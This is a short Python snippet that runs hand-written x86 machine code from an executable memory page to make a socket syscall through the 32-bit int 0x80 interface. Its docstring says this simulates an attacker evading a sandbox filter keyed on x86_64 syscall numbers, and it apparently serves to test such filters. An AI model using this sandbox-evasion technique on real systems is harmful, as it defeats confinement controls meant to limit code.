"""Open a socket through the ia32 syscall table (int 0x80), as an attacker
inside a confined module might, to dodge a filter keyed on x86_64 numbers."""
import ctypes
import mmap

# push rbx; mov eax, 359 (ia32 socket); mov ebx, 2; mov ecx, 1; xor edx, edx;
# int 0x80; pop rbx; ret
CODE = bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3")


def ia32_socket():
    buf = mmap.mmap(-1, mmap.PAGESIZE,
                    prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(CODE)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    return ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
